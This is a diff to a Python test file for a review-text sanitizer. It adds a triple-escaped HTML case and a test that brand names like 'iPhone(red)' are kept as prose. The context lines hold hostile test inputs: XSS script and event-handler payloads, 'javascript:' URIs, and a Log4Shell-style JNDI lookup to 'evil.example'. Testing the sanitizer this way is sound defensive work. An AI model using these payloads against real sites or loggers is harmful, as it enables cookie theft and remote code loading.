@@ -20,6 +20,7 @@ def _words(text: str) -> list[str]:
         ("<script>alert(document.cookie)</script> loves it", "loves it"),
         ("&lt;svg onload=alert(1)&gt; lovely dress", "lovely dress"),
         ("it&amp;#39;s fine &amp;lt;b&amp;gt;x", "it's fine x"),  # escaped twice
+        ("&amp;amp;lt;b&amp;amp;gt; rude &amp;amp;lt;/b&amp;amp;gt;", "rude"),  # three times
         ('<a href="javascript:alert(1)" onclick="alert(2)">comfy</a> and warm', "comfy and warm"),
         ("javascript:alert(1) the cable is missing", "the cable is missing"),
         ("${jndi:ldap://evil.example/x} size runs small", "size runs small"),
@@ -53,6 +54,8 @@ def test_markup_and_code_go_and_the_words_beside_them_stay(text: str, kept: str)
         "cost $60 or 50$, entrega rapida;mas frete caro, anteontem(18/12)",
         "i bought it(the red one), produto(kit aluminio(5), rápida(postagem)",
         "the best book about Fairy`s, {individually} wrapped",
+        # A brand's one lowercase letter before its capital is a name, not a camelCase call.
+        "my iPhone(red) and iPad(mini) from eBay(used)",
     ],
 )
 def test_prose_that_only_looks_like_code_is_kept(text: str) -> None:
